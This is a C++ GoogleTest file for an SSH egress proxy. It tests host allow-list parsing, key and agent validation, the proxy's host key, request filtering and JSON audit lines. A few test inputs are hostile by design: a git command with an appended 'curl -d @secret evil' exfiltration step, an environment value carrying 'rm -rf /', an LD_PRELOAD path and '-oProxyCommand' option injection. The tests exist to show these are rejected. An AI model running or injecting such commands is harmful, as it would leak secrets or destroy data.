// SSH egress settings, the proxy's host key, request rules and the audit
// line format: everything that needs no server.
#include <gtest/gtest.h>

#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <nlohmann/json.hpp>

#include "cli/ssh_flags.h"
#include "config/ssh_rules.h"
#include "egress/ssh/ssh_audit.h"
#include "egress/ssh/ssh_host_key.h"
#include "egress/ssh/ssh_request_rules.h"
#include "gondolin/error.h"
#include "gondolin/net_policy.h"
#include "ssh_test_harness.h"
#include "util/files.h"
#include "util/unique_fd.h"

namespace gondolin::ssh_test {
namespace {

using config::parse_ssh_allowed_host;
using config::parse_ssh_host_assignment;
using config::validate_ssh_options;

std::string usage_error(const std::function<void()>& f) {
  try {
    f();
  } catch (const Error& e) {
    EXPECT_EQ(e.kind(), ErrorKind::Usage) << e.what();
    std::string msg = e.what();
    EXPECT_EQ(msg.find('\n'), std::string::npos) << msg;
    return msg;
  }
  ADD_FAILURE() << "no error";
  return {};
}

// A listening unix socket standing in for an agent.
struct FakeSocket {
  explicit FakeSocket(const fs::path& where) : path(where) {
    fd.reset(::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0));
    sockaddr_un addr{};
    addr.sun_family = AF_UNIX;
    std::snprintf(addr.sun_path, sizeof addr.sun_path, "%s", path.c_str());
    EXPECT_EQ(::bind(fd.get(), reinterpret_cast<sockaddr*>(&addr), sizeof addr), 0);
  }
  fs::path path;
  UniqueFd fd;
};

TEST(SshAllowHost, AcceptsHostsAndPorts) {
  auto a = parse_ssh_allowed_host("github.com");
  EXPECT_EQ(a.host, "github.com");
  EXPECT_EQ(a.port, 22);
  auto b = parse_ssh_allowed_host("Git.Example.COM.:2222");
  EXPECT_EQ(b.host, "git.example.com");
  EXPECT_EQ(b.port, 2222);
  EXPECT_EQ(b.guest_port, 2222) << "HOST:PORT is the port the guest dials (and, by default, the upstream's)";
  auto c = parse_ssh_allowed_host("git.example.com,upstream-port=2200");
  EXPECT_EQ(c.guest_port, 22);
  EXPECT_EQ(c.port, 2200);
  auto d = parse_ssh_allowed_host("ssh.example.com:443,upstream-port=22");
  EXPECT_EQ(d.guest_port, 443);
  EXPECT_EQ(d.port, 22);
  for (const char* text : {"github.com", "ssh.example.com:443", "git.example.com,upstream-port=2200",
                           "ssh.example.com:443,upstream-port=22"})
    EXPECT_EQ(config::format_ssh_allowed_host(parse_ssh_allowed_host(text)), text);
  EXPECT_EQ(parse_ssh_allowed_host("localhost:65535").port, 65535);
  EXPECT_EQ(parse_ssh_allowed_host("internal_git.corp").host, "internal_git.corp");
}

TEST(SshAllowHost, RejectsWhatIsNotAHostName) {
  EXPECT_NE(usage_error([] { parse_ssh_allowed_host(""); }).find("--ssh-allow-host"), std::string::npos);
  EXPECT_NE(usage_error([] { parse_ssh_allowed_host("host:0"); }).find("1 to 65535"), std::string::npos);
  EXPECT_NE(usage_error([] { parse_ssh_allowed_host("host:70000"); }).find("1 to 65535"), std::string::npos);
  EXPECT_NE(usage_error([] { parse_ssh_allowed_host("host:"); }).find("1 to 65535"), std::string::npos);
  EXPECT_NE(usage_error([] { parse_ssh_allowed_host("host:22x"); }).find("1 to 65535"), std::string::npos);
  EXPECT_NE(usage_error([] { parse_ssh_allowed_host("host,upstream-port=0"); }).find("1 to 65535"), std::string::npos);
  EXPECT_NE(usage_error([] { parse_ssh_allowed_host("host,port=2"); }).find("upstream-port=N"), std::string::npos);
  EXPECT_NE(usage_error([] { parse_ssh_allowed_host("10.0.0.1"); }).find("not an address"), std::string::npos);
  EXPECT_NE(usage_error([] { parse_ssh_allowed_host("[::1]:22"); }).find("HOST[:PORT]"), std::string::npos);
  EXPECT_NE(usage_error([] { parse_ssh_allowed_host("git@github.com"); }).find("HOST[:PORT]"), std::string::npos);
  EXPECT_NE(usage_error([] { parse_ssh_allowed_host("bad host"); }).find("only contain"), std::string::npos);
  EXPECT_NE(usage_error([] { parse_ssh_allowed_host("a..b"); }).find("empty label"), std::string::npos);
  EXPECT_NE(usage_error([] { parse_ssh_allowed_host("-a.com"); }).find("'-'"), std::string::npos);
  EXPECT_NE(usage_error([] { parse_ssh_allowed_host(std::string(64, 'a') + ".com"); }).find("63"), std::string::npos);
}

TEST(SshHostAssignment, SplitsHostAndValue) {
  auto [host, path] = parse_ssh_host_assignment("--ssh-key", "GitHub.com=/keys/id=1");
  EXPECT_EQ(host, "github.com");
  EXPECT_EQ(path, "/keys/id=1");
  EXPECT_NE(usage_error([] { parse_ssh_host_assignment("--ssh-key", "github.com"); }).find("--ssh-key"),
            std::string::npos);
  EXPECT_NE(usage_error([] { parse_ssh_host_assignment("--ssh-key", "=/k"); }).find("HOST=VALUE"), std::string::npos);
  EXPECT_NE(usage_error([] { parse_ssh_host_assignment("--ssh-key", "h.com="); }).find("HOST=VALUE"),
            std::string::npos);
}

class SshValidateTest : public ::testing::Test {
 protected:
  void SetUp() override {
    key_ = dir_.path() / "id";
    make_key(key_);
  }
  SshOptions with_key() {
    SshOptions o;
    o.allowed_hosts = {{"git.example.com", 22}};
    o.key_files = {{"git.example.com", key_.string()}};
    return o;
  }
  TempDir dir_;
  fs::path key_;
};

TEST_F(SshValidateTest, AcceptsAKeyPerHostOrAnAgent) {
  EXPECT_NO_THROW(validate_ssh_options(with_key()));
  FakeSocket agent(dir_.path() / "agent.sock");
  SshOptions o;
  o.allowed_hosts = {{"a.example.com", 22}, {"b.example.com", 2222}};
  o.use_agent = true;
  o.agent_socket = agent.path.string();
  EXPECT_NO_THROW(validate_ssh_options(o));
  EXPECT_NO_THROW(validate_ssh_options(SshOptions{}));  // SSH egress off
}

TEST_F(SshValidateTest, NamesWhatIsWrong) {
  auto o = with_key();
  o.allowed_hosts.push_back({"other.example.com", 22});
  EXPECT_NE(usage_error([&] { validate_ssh_options(o); }).find("other.example.com has no credentials"),
            std::string::npos);

  o = with_key();
  o.key_files["stray.example.com"] = key_.string();
  EXPECT_NE(usage_error([&] { validate_ssh_options(o); }).find("stray.example.com is not an --ssh-allow-host"),
            std::string::npos);

  o = with_key();
  o.key_files["git.example.com"] = (dir_.path() / "missing").string();
  EXPECT_NE(usage_error([&] { validate_ssh_options(o); }).find("is not a file"), std::string::npos);

  o = with_key();
  o.known_hosts_files = {(dir_.path() / "missing").string()};
  EXPECT_NE(usage_error([&] { validate_ssh_options(o); }).find("--ssh-known-hosts"), std::string::npos);

  o = with_key();
  o.users["git.example.com"] = "-oProxyCommand=x";
  EXPECT_NE(usage_error([&] { validate_ssh_options(o); }).find("--ssh-user"), std::string::npos);

  o = with_key();
  o.allowed_hosts.push_back({"git.example.com", 2222});
  EXPECT_NE(usage_error([&] { validate_ssh_options(o); }).find("listed twice"), std::string::npos);

  o = with_key();
  o.use_agent = true;
  o.agent_socket = key_.string();
  EXPECT_NE(usage_error([&] { validate_ssh_options(o); }).find("is not a socket"), std::string::npos);
}

TEST_F(SshValidateTest, AnEncryptedKeyIsRefusedWithAHint) {
  fs::path encrypted = dir_.path() / "encrypted";
  run_ok({"ssh-keygen", "-q", "-t", "ed25519", "-N", "secret passphrase", "-f", encrypted.string()});
  auto o = with_key();
  o.key_files["git.example.com"] = encrypted.string();
  EXPECT_NE(usage_error([&] { validate_ssh_options(o); }).find("use --ssh-agent"), std::string::npos);

  o.key_passphrases["git.example.com"] = "secret passphrase";
  EXPECT_NO_THROW(validate_ssh_options(o));
  o.key_passphrases["git.example.com"] = "wrong";
  EXPECT_NE(usage_error([&] { validate_ssh_options(o); }).find("not a private key this passphrase opens"),
            std::string::npos);
  o.key_passphrases.clear();

  // The flag form reads the passphrase from the named variable.
  ::setenv("GONDOLIN_TEST_KEY_PASS", "secret passphrase", 1);
  auto key = config::parse_ssh_key("Git.Example.com=" + encrypted.string() + ",passphrase-env=GONDOLIN_TEST_KEY_PASS");
  EXPECT_EQ(key.host, "git.example.com");
  EXPECT_EQ(key.path, encrypted.string());
  EXPECT_EQ(key.passphrase.value_or(""), "secret passphrase");
  ::unsetenv("GONDOLIN_TEST_KEY_PASS");
  EXPECT_NE(usage_error([&] {
              config::parse_ssh_key("git.example.com=/k,passphrase-env=GONDOLIN_TEST_KEY_PASS");
            }).find("$GONDOLIN_TEST_KEY_PASS (the key's passphrase) is not set"),
            std::string::npos);
  EXPECT_NE(usage_error([&] { config::parse_ssh_key("git.example.com=/k,passphrase-env=1X"); }).find("passphrase-env"),
            std::string::npos);
  EXPECT_FALSE(config::parse_ssh_key("git.example.com=/keys/a,b").passphrase) << "commas in paths are paths";

  write_file_atomic(dir_.path() / "garbage", "not a key\n");
  o.key_files["git.example.com"] = (dir_.path() / "garbage").string();
  EXPECT_NE(usage_error([&] { validate_ssh_options(o); }).find("not an unencrypted private key"), std::string::npos);
}

// CLI11 parses arguments back to front into the vector it is given.
SshOptions parse_flags(std::vector<std::string> args) {
  CLI::App app;
  cli::SshFlags flags;
  flags.add_to(app);
  std::reverse(args.begin(), args.end());
  app.parse(args);
  return flags.to_options();
}

TEST_F(SshValidateTest, CliFlagsBecomeOptions) {
  FakeSocket agent(dir_.path() / "agent.sock");
  fs::path kh = dir_.path() / "known_hosts";
  write_file_atomic(kh, "");
  auto o = parse_flags({"--ssh-allow-host", "git.example.com", "--ssh-allow-host", "Mirror.Example.com:2222",
                        "--ssh-agent", agent.path.string(), "--ssh-key", "mirror.example.com=" + key_.string(),
                        "--ssh-user", "mirror.example.com=deploy", "--ssh-known-hosts", kh.string()});
  ASSERT_EQ(o.allowed_hosts.size(), 2u);
  EXPECT_EQ(o.allowed_hosts[1].host, "mirror.example.com");
  EXPECT_EQ(o.allowed_hosts[1].port, 2222);
  EXPECT_TRUE(o.use_agent);
  EXPECT_EQ(o.agent_socket, agent.path.string());
  EXPECT_EQ(o.key_files.at("mirror.example.com"), key_.string());
  EXPECT_EQ(o.users.at("mirror.example.com"), "deploy");
  EXPECT_EQ(o.known_hosts_files, std::vector<std::string>{kh.string()});

  EXPECT_TRUE(parse_flags({}).allowed_hosts.empty());
}

TEST_F(SshValidateTest, BareSshAgentFlagUsesSshAuthSock) {
  FakeSocket agent(dir_.path() / "agent.sock");
  const char* old = std::getenv("SSH_AUTH_SOCK");
  std::string saved = old ? old : "";
  ::setenv("SSH_AUTH_SOCK", agent.path.c_str(), 1);
  auto o = parse_flags({"--ssh-allow-host", "git.example.com", "--ssh-agent"});
  EXPECT_TRUE(o.use_agent);
  EXPECT_EQ(config::effective_agent_socket(o), agent.path.string());
  ::unsetenv("SSH_AUTH_SOCK");
  EXPECT_NE(usage_error([&] {
              parse_flags({"--ssh-allow-host", "git.example.com", "--ssh-agent"});
            }).find("SSH_AUTH_SOCK is not set"),
            std::string::npos);
  if (old) ::setenv("SSH_AUTH_SOCK", saved.c_str(), 1);
}

TEST_F(SshValidateTest, CliFlagErrors) {
  EXPECT_NE(usage_error([&] {
              parse_flags({"--ssh-key", "git.example.com=" + key_.string()});
            }).find("need at least one --ssh-allow-host"),
            std::string::npos);
  EXPECT_NE(usage_error([&] {
              parse_flags({"--ssh-allow-host", "git.example.com", "--ssh-key", "git.example.com=" + key_.string(),
                           "--ssh-key", "git.example.com=" + key_.string()});
            }).find("given twice"),
            std::string::npos);
  EXPECT_NE(usage_error([&] {
              parse_flags({"--ssh-allow-host", "1.2.3.4"});
            }).find("not an address"),
            std::string::npos);
}

TEST_F(SshValidateTest, PolicyFileSshSectionsEqualTheFlags) {
  fs::path encrypted = dir_.path() / "encrypted";
  run_ok({"ssh-keygen", "-q", "-t", "ed25519", "-N", "pw from env", "-f", encrypted.string()});
  fs::path kh = dir_.path() / "kh";
  write_file_atomic(kh, "");
  ::setenv("GONDOLIN_TEST_SSH_PASS", "pw from env", 1);
  fs::path policy = dir_.path() / "policy.json";
  write_file_atomic(policy, R"({"ssh": {"allow_hosts": ["Git.Example.com:443,upstream-port=22", "mirror.example.com"],
      "keys": {"git.example.com": {"path": ")" +
                                encrypted.string() + R"(", "passphrase_env": "GONDOLIN_TEST_SSH_PASS"},
               "mirror.example.com": ")" +
                                key_.string() + R"("},
      "users": {"mirror.example.com": "deploy"}, "known_hosts": [")" +
                                kh.string() + R"("]},
    "ssh_git": {"repos": ["git.example.com:/org/app.git"], "push": false}})");
  NetworkOptions n;
  load_network_policy_file(policy.string(), n);
  ::unsetenv("GONDOLIN_TEST_SSH_PASS");
  // The flags add to the file, and the whole is validated.
  CLI::App app;
  cli::SshFlags flags;
  flags.add_to(app);
  app.parse(std::vector<std::string>{"org/*", "--ssh-git-repo"});
  SshOptions o = flags.to_options(n.ssh);
  ASSERT_EQ(o.allowed_hosts.size(), 2u);
  EXPECT_EQ(o.allowed_hosts[0].host, "git.example.com");
  EXPECT_EQ(o.allowed_hosts[0].guest_port, 443);
  EXPECT_EQ(o.allowed_hosts[0].port, 22);
  EXPECT_EQ(o.key_passphrases.at("git.example.com"), "pw from env");
  EXPECT_EQ(o.key_files.at("mirror.example.com"), key_.string());
  EXPECT_EQ(o.users.at("mirror.example.com"), "deploy");
  EXPECT_EQ(o.known_hosts_files, std::vector<std::string>{kh.string()});
  EXPECT_EQ(o.git.repos, (std::vector<std::string>{"git.example.com:org/app", "org/*"}));
  EXPECT_FALSE(o.git.push);

  auto error_of = [&](const std::string& text) {
    write_file_atomic(policy, text);
    NetworkOptions bad;
    try {
      load_network_policy_file(policy.string(), bad);
    } catch (const Error& e) {
      return std::string(e.what());
    }
    return std::string("no error");
  };
  EXPECT_NE(error_of(R"({"ssh": {"agnet": true}})").find("unknown key \"ssh.agnet\""), std::string::npos);
  EXPECT_NE(error_of(R"({"ssh": {"allow_hosts": ["h.com:0"]}})").find("\"ssh.allow_hosts\" entry"), std::string::npos);
  EXPECT_NE(error_of(R"({"ssh_git": {"repos": ["a/../b"]}})").find("'..'"), std::string::npos);
  EXPECT_NE(error_of(R"({"ssh_git": {"push": "no"}})").find("true or false"), std::string::npos);
  EXPECT_NE(error_of(R"({"ssh": {"keys": {"h.com": {"path": "/k", "passphrase_env": "UNSET_GONDOLIN_X"}}}})")
                .find("$UNSET_GONDOLIN_X (the key's passphrase) is not set"),
            std::string::npos);
}

TEST(SshHostKey, CreatedOncePrivateAndReused) {
  TempDir dir;
  fs::path conf = dir.path() / "conf" / "gondolin";
  auto first = egress::ProxyHostKey::load_or_create(conf);
  struct stat st {};
  ASSERT_EQ(::stat((conf / "ssh_host_ed25519_key").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 0777, 0600u);
  EXPECT_EQ(first.key_type(), "ssh-ed25519");
  EXPECT_EQ(first.fingerprint().rfind("SHA256:", 0), 0u);
  auto second = egress::ProxyHostKey::load_or_create(conf);
  EXPECT_EQ(first.public_key_base64(), second.public_key_base64());
  // OpenSSH agrees on what the key is.
  EXPECT_EQ(public_key_line(conf / "ssh_host_ed25519_key"), first.public_key_line());
  EXPECT_EQ(first.private_key_openssh().find("BEGIN OPENSSH PRIVATE KEY"), 5u);
}

TEST(SshHostKey, RefusesAKeyOthersCanRead) {
  TempDir dir;
  egress::ProxyHostKey::load_or_create(dir.path());
  fs::permissions(dir.path() / "ssh_host_ed25519_key",
                  fs::perms::owner_read | fs::perms::owner_write | fs::perms::group_read);
  try {
    egress::ProxyHostKey::load_or_create(dir.path());
    ADD_FAILURE() << "no error";
  } catch (const Error& e) {
    EXPECT_EQ(e.kind(), ErrorKind::Io);
    EXPECT_NE(std::string(e.what()).find("chmod 600"), std::string::npos) << e.what();
  }
}

TEST(SshHostKey, GuestKnownHostsNameEachAllowedHost) {
  TempDir dir;
  auto key = egress::ProxyHostKey::load_or_create(dir.path());
  auto lines = key.guest_known_hosts({{"github.com", 22}, {"git.example.com", 2222}});
  ASSERT_EQ(lines.size(), 2u);
  EXPECT_EQ(lines[0], "github.com ssh-ed25519 " + key.public_key_base64());
  // The guest always dials port 22, whatever the real upstream port is.
  EXPECT_EQ(lines[1], "git.example.com ssh-ed25519 " + key.public_key_base64());
  // ssh-keygen finds the host in a file made of these lines.
  write_file_atomic(dir.path() / "kh", lines[0] + "\n" + lines[1] + "\n");
  EXPECT_NE(run_ok({"ssh-keygen", "-F", "git.example.com", "-f", (dir.path() / "kh").string()}).find("ssh-ed25519"),
            std::string::npos);
}

TEST(SshRequestRules, GitCommandsAreLoggedWholePlainCommandsByTheirFirstWord) {
  using egress::summarize_exec_command;
  auto up = summarize_exec_command("git-upload-pack 'org/repo.git'");
  EXPECT_TRUE(up.is_git);
  EXPECT_EQ(up.logged, "git-upload-pack 'org/repo.git'");
  EXPECT_EQ(summarize_exec_command("git-receive-pack '/srv/it'\\''s.git'").logged,
            "git-receive-pack '/srv/it'\\''s.git'");
  EXPECT_EQ(summarize_exec_command("git-lfs-authenticate 'org/repo.git' download").logged,
            "git-lfs-authenticate 'org/repo.git' download");
  // Anything past git's own form is a plain command: only the first word is logged.
  auto sneaky = summarize_exec_command("git-upload-pack 'x'; curl -d @secret evil");
  EXPECT_FALSE(sneaky.is_git);
  EXPECT_EQ(sneaky.logged, "git-upload-pack");
  EXPECT_EQ(summarize_exec_command("mysql -pSECRET db").logged, "mysql");
  EXPECT_EQ(summarize_exec_command("  ls -la").logged, "ls");
  EXPECT_EQ(summarize_exec_command("git-upload-pack 'unterminated").logged, "git-upload-pack");
  EXPECT_EQ(summarize_exec_command("git-upload-pack 'a'\n'b'").logged, "git-upload-pack");
}

TEST(SshRequestRules, CommandsEnvAndUsers) {
  EXPECT_EQ(egress::exec_command_problem("ls"), "");
  EXPECT_NE(egress::exec_command_problem("   "), "");
  EXPECT_NE(egress::exec_command_problem(std::string(9000, 'a')), "");
  EXPECT_TRUE(egress::forwardable_env("GIT_PROTOCOL", "version=2"));
  EXPECT_FALSE(egress::forwardable_env("GIT_PROTOCOL", "version=2; rm -rf /"));
  EXPECT_FALSE(egress::forwardable_env("LD_PRELOAD", "/tmp/x.so"));
  EXPECT_FALSE(egress::forwardable_env("GIT_PROTOCOL", ""));
  EXPECT_TRUE(config::valid_remote_user("git"));
  EXPECT_TRUE(config::valid_remote_user("deploy.bot_1"));
  EXPECT_FALSE(config::valid_remote_user(""));
  EXPECT_FALSE(config::valid_remote_user("-oProxyCommand"));
  EXPECT_FALSE(config::valid_remote_user("root@evil"));
  EXPECT_FALSE(config::valid_remote_user(std::string(65, 'a')));
}

TEST(SshAudit, OneJsonLinePerDecision) {
  egress::SshAuditEvent e;
  e.flow = 7;
  e.host = "github.com";
  e.port = 22;
  e.user = "git";
  e.command = "git-upload-pack 'org/repo.git'";
  e.decision = "allow";
  e.upstream = "github.com:22";
  std::string line = egress::to_json_line(e);
  EXPECT_EQ(line.find('\n'), std::string::npos);
  auto j = nlohmann::json::parse(line);
  EXPECT_EQ(j["kind"], "ssh");
  EXPECT_EQ(j["flow"], 7);
  EXPECT_EQ(j["host"], "github.com");
  EXPECT_EQ(j["user"], "git");
  EXPECT_EQ(j["command"], "git-upload-pack 'org/repo.git'");
  EXPECT_EQ(j["decision"], "allow");
  EXPECT_FALSE(j.contains("reason"));
  EXPECT_TRUE(j["time"].get<std::string>().ends_with("Z"));

  e.command = std::string("bad\xff\xfe");
  e.reason = "line\nbreak";
  EXPECT_EQ(egress::to_json_line(e).find('\n'), std::string::npos);

  TempDir dir;
  {
    egress::SshAuditFile file((dir.path() / "audit.jsonl").string());
    file.record(e);
    file.record(e);
  }
  std::string text = read_file(dir.path() / "audit.jsonl");
  EXPECT_EQ(std::count(text.begin(), text.end(), '\n'), 2);
}

}  // namespace
}  // namespace gondolin::ssh_test
